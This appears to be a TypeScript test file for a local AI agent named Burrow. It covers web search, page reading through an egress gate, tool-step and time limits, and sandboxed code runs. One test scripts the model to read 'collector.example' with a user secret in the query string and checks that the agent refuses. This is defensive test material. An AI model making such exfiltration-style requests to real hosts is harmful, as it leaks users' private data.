import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { createAgent, type AgentOptions } from "../../agent/agent.js";
import { FIX_SEPARATOR } from "../../agent/prompts.js";
import type { AgentTools, CodeRun } from "../../agent/tool-ports.js";
import { ModelEngine } from "../../models/engine.js";
import type { AgentEvent, ChatRequest } from "../../src/contracts.js";
import { EgressGate, type EgressRecord } from "../../src/egress.js";
import { silentLogger } from "../../src/log.js";
import { Sandbox } from "../../tools/code-exec/index.js";
import { PageReader } from "../../tools/web-page/index.js";
import { SearxngProvider } from "../../tools/web-search/index.js";
import { startFakeSearxng, type FakeSearxng } from "../support/fake-search/index.js";
import { articlePage, fakeDns, loopbackTestPolicy, serve, startFakeWeb } from "../support/fake-web/index.js";
import { writeToolCallerModel, type ToolCallerModelOptions } from "../support/models/index.js";
import { makeTempDir } from "../support/temp-dir.js";

/**
 * The agent on real llama.cpp (the scripted tool-calling model), with real tools: SearXNG's real client
 * against a fake SearXNG on loopback through the real egress gate, and the real bubblewrap sandbox.
 */

const tmp = makeTempDir("burrow-agent-");
let searxng: FakeSearxng;
let audit: EgressRecord[];
let provider: SearxngProvider;
const sandbox = new Sandbox({ timeoutMs: 5_000 });
let engine: ModelEngine | undefined;
let modelCount = 0;

beforeAll(async () => {
  searxng = await startFakeSearxng();
});
afterAll(async () => {
  await searxng.close();
  tmp.remove();
});
afterEach(async () => {
  searxng.clearRequests();
  await engine?.stop();
  engine = undefined;
  await provider?.stop();
});

const request = (text: string): ChatRequest => ({ platform: "terminal", chatId: "t", userId: "u", text, attachments: [], kind: "chat", createdAt: Date.now() });

async function agentWith(model: ToolCallerModelOptions, overrides: Partial<AgentOptions> = {}, tools?: Partial<AgentTools>) {
  const info = await writeToolCallerModel(join(tmp.path, `m${++modelCount}.gguf`), model);
  engine = new ModelEngine({ modelPath: info.path, threads: 1, contextSize: 4096, logger: silentLogger() });
  await engine.start();
  audit = [];
  const gate = new EgressGate((record) => audit.push(record));
  provider = new SearxngProvider({ gate, baseUrl: searxng.url });
  await provider.start();
  const search = provider;
  const agent = createAgent({
    engine,
    tools: {
      search: { label: "SearXNG", search: (q, o) => search.search(q, o) },
      code: sandbox,
      unavailable: new Map(),
      ...tools,
    },
    maxTokens: 512,
    temperature: 0.7,
    maxToolSteps: 4,
    timeoutMs: 60_000,
    thoughtTokens: 64,
    fixRounds: 1,
    pageTokens: 500,
    ...overrides,
  });
  return { agent, info };
}

async function collect(events: AsyncIterable<AgentEvent>): Promise<AgentEvent[]> {
  const all: AgentEvent[] = [];
  for await (const event of events) all.push(event);
  return all;
}

const summaries = (events: AgentEvent[]) => events.filter((e) => e.type === "tool").map((e) => `${e.name}: ${e.summary}`);
const streamed = (events: AgentEvent[]) => events.filter((e): e is Extract<AgentEvent, { type: "delta" }> => e.type === "delta").map((e) => e.text).join("");
const done = (events: AgentEvent[]) => events.at(-1) as Extract<AgentEvent, { type: "done" }>;
const ctx = (signal = new AbortController().signal) => ({ jobId: "job-1", history: [], signal });

describe("agent with web search", () => {
  it("searches, numbers the results, and lists the cited source under the answer", async () => {
    searxng.setMode("ok");
    const { agent } = await agentWith({ call: { name: "web_search", arguments: { query: "tokio runtime" } }, answer: "Tokio is an async runtime [1]." });
    const events = await collect(agent(request("What is Tokio?"), ctx()));
    expect(summaries(events)).toEqual(['web_search: Searching SearXNG for "tokio runtime"']);
    const expected = "Tokio is an async runtime [1].\n\nSources:\n[1] Tokio - An asynchronous Rust runtime — https://tokio.rs/";
    expect(done(events)).toMatchObject({ type: "done", answer: expected, sources: [{ title: "Tokio - An asynchronous Rust runtime", url: "https://tokio.rs/" }] });
    expect(streamed(events)).toBe(expected);
    // Only the query left the machine: one request, to the search provider, carrying q and format.
    expect(searxng.requests.map((r) => r.query)).toEqual([{ q: "tokio runtime", format: "json" }]);
    expect(audit).toMatchObject([{ purpose: "search", outcome: "allowed", host: new URL(searxng.url).host, jobId: "job-1" }]);
  });

  it("turns a failing provider into a clear note, and still answers", async () => {
    searxng.setMode("server-error");
    const { agent } = await agentWith({ call: { name: "web_search", arguments: { query: "tokio" } }, answer: "I could not search." });
    const events = await collect(agent(request("What is Tokio?"), ctx()));
    const tools = summaries(events);
    expect(tools[0]).toBe('web_search: Searching SearXNG for "tokio"');
    expect(tools[1]).toMatch(/^web_search: Search failed: SearXNG/);
    const answer = done(events).answer;
    expect(answer.startsWith("I could not search.\n\n⚠️ Web search failed: SearXNG")).toBe(true);
    expect(done(events).sources).toEqual([]);
  });
});

describe("agent with the page reader", () => {
  it("refuses a page that was not in this job's search results, without contacting it", async () => {
    const gate = new EgressGate((record) => audit.push(record));
    const leak = "https://collector.example/?q=the+user+secret";
    const { agent } = await agentWith({ call: { name: "read_page", arguments: { url: leak } }, answer: "I cannot read that." }, {}, { pages: new PageReader({ gate }) });
    audit.length = 0;
    const events = await collect(agent(request("Read this."), ctx()));
    const tools = summaries(events);
    expect(tools[0]).toBe("read_page: Reading collector.example");
    expect(tools[1]).toMatch(/^read_page: Could not read the page: .*search results/);
    expect(done(events).answer).toBe("I cannot read that.");
    expect(audit).toMatchObject([{ purpose: "page", outcome: "refused", host: "collector.example" }]);
  });

  it("searches, reads a page from the results, then answers once the page is in its context", async () => {
    const web = await startFakeWeb();
    const marker = "PAGEMARKERZQ";
    web.route("/notes", serve(articlePage({ title: "Burrow notes", paragraphs: [`Burrow keeps your words on your machine. The word ${marker} marks this page.`, "Only the query leaves it."] })));
    const pageUrl = `http://news.example:${web.port}/notes`;
    const withPage = await startFakeSearxng(undefined, { extraResults: [{ url: pageUrl, title: "Burrow notes", content: "What Burrow keeps." }] });
    const gate = new EgressGate((record) => audit.push(record));
    const search = new SearxngProvider({ gate, baseUrl: withPage.url });
    try {
      await search.start();
      const dns = fakeDns({ "news.example": "127.0.0.1" });
      const { agent } = await agentWith(
        { call: { name: "web_search", arguments: { query: "burrow notes" } }, then: { call: { name: "read_page", arguments: { url: pageUrl } }, marker }, answer: "Burrow keeps your words [1]." },
        {},
        { search: { label: "SearXNG", search: (q, o) => search.search(q, o) }, pages: new PageReader({ gate, lookup: dns.lookup, addressPolicy: loopbackTestPolicy }) },
      );
      audit.length = 0;
      const events = await collect(agent(request("What does Burrow keep?"), ctx()));
      expect(summaries(events)).toEqual(['web_search: Searching SearXNG for "burrow notes"', `read_page: Reading news.example:${web.port}/notes`]);
      expect(done(events).answer).toBe(`Burrow keeps your words [1].\n\nSources:\n[1] Burrow notes — ${pageUrl}`);
      expect(withPage.requests.map((r) => r.query)).toEqual([{ q: "burrow notes", format: "json" }]);
      expect(web.requests).toMatchObject([{ method: "GET", path: "/notes", host: `news.example:${web.port}` }]);
      expect(audit.map((r) => `${r.purpose} ${r.outcome} ${r.host}`)).toEqual([`search allowed ${new URL(withPage.url).host}`, `page allowed news.example:${web.port}`]);
    } finally {
      await search.stop();
      await withPage.close();
      await web.close();
    }
  });
});

describe("agent budgets", () => {
  it("refuses tool calls past BURROW_MAX_TOOL_STEPS and stops a model that keeps calling", async () => {
    searxng.setMode("ok");
    const { agent } = await agentWith({ call: { name: "web_search", arguments: { query: "again" } }, calls: Infinity }, { maxToolSteps: 2 });
    const events = await collect(agent(request("Loop."), ctx()));
    expect(summaries(events)).toEqual(['web_search: Searching SearXNG for "again"', 'web_search: Searching SearXNG for "again"']);
    expect(searxng.requests).toHaveLength(2);
    expect(done(events).answer).toContain("[Stopped using tools after 2 steps (BURROW_MAX_TOOL_STEPS).]");
    expect(done(events).answer.startsWith("(No answer: the work was stopped before the model wrote one.)")).toBe(true);
  });

  it("stops at the time limit while a tool is still working, keeping what it has", async () => {
    searxng.setMode("slow", { delayMs: 10_000 });
    const { agent } = await agentWith({ call: { name: "web_search", arguments: { query: "slow" } } }, { timeoutMs: 1_000 });
    const started = performance.now();
    const events = await collect(agent(request("Slow search."), ctx()));
    expect(performance.now() - started).toBeLessThan(8_000);
    expect(done(events).answer).toMatch(/\[Stopped after 1 s, the time limit for one answer \(BURROW_JOB_TIMEOUT\); the answer may be incomplete\.\]/);
  });

  it("a user's cancel during a tool call ends the run with an error instead of an answer", async () => {
    searxng.setMode("slow", { delayMs: 10_000 });
    const { agent } = await agentWith({ call: { name: "web_search", arguments: { query: "slow" } } });
    const controller = new AbortController();
    const run = collect(agent(request("Slow search."), ctx(controller.signal)));
    setTimeout(() => controller.abort(new Error("cancelled by the user")), 300);
    await expect(run).rejects.toThrow(/cancelled/i);
  });
});

describe("agent with the code sandbox", () => {
  it("runs code the model asks to run, in the real sandbox", async () => {
    const runs: CodeRun[] = [];
    const { agent } = await agentWith(
      { call: { name: "run_code", arguments: { language: "python", code: "print(6 * 7)" } }, answer: "It prints 42." },
      {},
      { code: { run: async (r) => { const result = await sandbox.run(r); runs.push(result); return result; } } },
    );
    const events = await collect(agent(request("What does 6*7 print?"), ctx()));
    expect(summaries(events)).toEqual(["run_code: Running Python code in the sandbox"]);
    expect(runs).toMatchObject([{ outcome: "ok", exitCode: 0, stdout: "42\n" }]);
    expect(done(events).answer).toBe("It prints 42.");
  });

  it("runs the code in its answer, feeds the error back, and reports honestly that it still fails", async () => {
    searxng.setMode("ok");
    const fence = "```";
    const answer = `${fence}python\nprint(1 / 0)\n${fence}`;
    const { agent } = await agentWith({ call: { name: "web_search", arguments: { query: "division" } }, answer });
    const events = await collect(agent(request("Divide one by zero in Python."), ctx()));
    expect(summaries(events)).toEqual([
      'web_search: Searching SearXNG for "division"',
      "run_code: Running the Python code as a smoke run (your question had no tests)",
      "run_code: The code failed: ZeroDivisionError: division by zero",
      "run_code: Running the Python code as a smoke run (your question had no tests) (attempt 2)",
      "run_code: The code failed: ZeroDivisionError: division by zero",
    ]);
    const final = done(events).answer;
    expect(final.startsWith(`${answer}\n\n❌ I ran this Python code in the sandbox as a smoke run (your question had no tests) and it fails after 2 attempts:`)).toBe(true);
    expect(final).toContain("ZeroDivisionError: division by zero");
    // The stream shows both attempts, separated, so nothing the user saw is silently replaced.
    expect(streamed(events).startsWith(`${answer}${FIX_SEPARATOR}${answer}\n\n❌`)).toBe(true);
  });

  it("says it ran the code and it passed", async () => {
    searxng.setMode("ok");
    const fence = "```";
    const answer = `${fence}python\nprint(6 * 7)\n${fence}`;
    const { agent } = await agentWith({ call: { name: "web_search", arguments: { query: "multiply" } }, answer });
    const events = await collect(agent(request("Multiply 6 by 7 in Python."), ctx()));
    expect(done(events).answer).toContain(`${answer}\n\n✅ I ran this Python code in the sandbox: it runs without errors.`);
  });

  it("says why code was not run when the sandbox is unavailable", async () => {
    searxng.setMode("ok");
    const fence = "```";
    const answer = `${fence}python\nprint(1)\n${fence}`;
    const { agent } = await agentWith({ call: { name: "web_search", arguments: { query: "x" } }, answer }, {}, { code: undefined, unavailable: new Map([["run_code", "bubblewrap is not installed"]]) });
    const events = await collect(agent(request("Print 1."), ctx()));
    expect(done(events).answer).toContain("⚠️ I did not run this code: bubblewrap is not installed.");
  });
});
